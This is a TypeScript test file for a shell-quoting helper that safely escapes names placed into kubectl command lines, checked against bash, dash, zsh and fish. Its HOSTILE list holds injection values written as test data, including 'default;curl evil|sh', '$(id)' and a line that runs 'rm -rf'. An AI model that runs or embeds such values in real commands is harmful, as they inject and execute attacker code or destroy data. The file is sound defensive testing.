import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandText, shellNames, shellText, shellWord } from './shell-word.ts';

const HOSTILE = [
  'default;curl evil|sh',
  '$(id)',
  '`id`',
  "it's",
  'a b',
  '~root',
  '=ls',
  '!!',
  '{a,b}',
  '*',
  '#x',
  '',
  'a\nrm -rf x',
  "a\n'; id #",
  '\u001b[2J',
  'web\u200b-1',
  '\u{e0041}',
  "\\'\n$(id)",
  "\\'; id #",
  "\\\\'; id #",
  'a\\',
  '\\\\',
  "'",
];

/** Those that are there; a shell without `$'…'` need not read the same, but must take it for one word. */
const SHELLS = ['/bin/bash', '/bin/dash', '/usr/bin/zsh', '/usr/bin/fish'].filter((shell) =>
  existsSync(shell),
);

function wordsOf(shell: string, line: string): readonly string[] {
  const script = `f() { for w in "$@"; do printf '%s\\0' "$w"; done; }; f ${line}`;
  const fish = `for w in ${line}; printf '%s\\0' $w; end`;
  const { stdout } = spawnSync(shell, ['-c', shell.endsWith('fish') ? fish : script], { encoding: 'utf8' });
  return stdout.split('\0').slice(0, -1);
}

describe('shellWord', () => {
  it.each(['web-1', 'shop/web-1', 'system:node:n1', 'a=b', '--image=busybox:1.36', 'ns.x_y@z%2'])(
    'leaves %s as it is',
    (word) => expect(shellWord(word)).toBe(word),
  );

  it.each(SHELLS)('is read as one word by %s, and nothing in it is run', (shell) => {
    expect(SHELLS).toContain('/bin/bash');
    for (const word of HOSTILE) {
      for (const written of [shellWord(word), shellNames([word])]) {
        const words = wordsOf(shell, `${written} end`);
        // fish knows no `$'…'`, and runs nothing of a line that has one; dash reads it as text.
        const isEscaped = written.startsWith('$');
        expect(words.slice(1)).toEqual(shell.endsWith('fish') && isEscaped ? [] : ['end']);
        if (!isEscaped || /bash|zsh/.test(shell)) expect(words[0]).toBe(word);
      }
    }
  });

  it('leaves line feeds and tabs to be read by every shell', () => {
    expect(shellWord('a\n\tb')).toBe("'a\n\tb'");
  });

  it('is read back by bash, whatever the words are', () => {
    const word = fc
      .string({ unit: 'binary', maxLength: 12 })
      .filter((text) => !/[\0\ud800-\udfff]/.test(text));
    const words = fc
      .sample(fc.array(word, { minLength: 1, maxLength: 20 }), { numRuns: 20, seed: 14 })
      .flat();
    expect(wordsOf('/bin/bash', shellText(words))).toEqual(words);
  });
});

describe('commandText', () => {
  it('makes one word of each value', () => {
    const [name, namespace] = ['web-1', 'default;curl evil|sh'];
    expect(commandText`kubectl logs ${name} -n ${namespace} tells`).toBe(
      "kubectl logs web-1 -n 'default;curl evil|sh' tells",
    );
  });

  it('makes no flag of a name', () => {
    const name = '--kubeconfig=/tmp/x';
    expect(commandText`kubectl logs ${name} -c ${name} --for=${name}`).toBe(
      'kubectl logs pod/--kubeconfig=/tmp/x -c --kubeconfig=/tmp/x --for=--kubeconfig=/tmp/x',
    );
  });
});

it.each(HOSTILE)('names %j on one line, without anything that a terminal must not get', (name) => {
  expect(shellNames([name])).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  expect(commandText`kubectl logs ${name}`).toBe(`kubectl logs ${shellNames([name])}`);
});

it('names what to choose from as it is typed', () => {
  expect(shellNames(['app', '$(id)'])).toBe("app, '$(id)'");
});

/** Each template that has a command line and a value in it. */
function bareCommandLines(text: string): readonly string[] {
  const templates =
    text.match(/(?<!commandText)`(?:[^`\\$]|\\.|\$(?!\{))*kubectl(?:-debug|-dbg)? [^`]*`/gs) ?? [];
  return templates.filter((template) =>
    /kubectl(?:-debug|-dbg)? (?:(?!commandText)[^`])*(?<!\\)\$\{(?!commandText|[A-Z_]+\})/.test(template),
  );
}

it('is used for every command line that the sources put a name into', () => {
  const files = readdirSync('src', { recursive: true, encoding: 'utf8' })
    .filter((file) => file.endsWith('.ts') && !file.endsWith('.test.ts'))
    .filter((file) => !/^(?:playground|docs|audit\/results\/report|snapshot\/page)\//.test(file));
  const found = files.flatMap((file) =>
    bareCommandLines(readFileSync(`src/${file}`, 'utf8')).map((line) => `${file}: ${line}`),
  );
  expect(bareCommandLines('x = `why: kubectl logs ${name}`')).toHaveLength(1);
  expect(bareCommandLines('x = commandText`why: kubectl logs ${name}`')).toEqual([]);
  expect(found).toEqual([]);
});
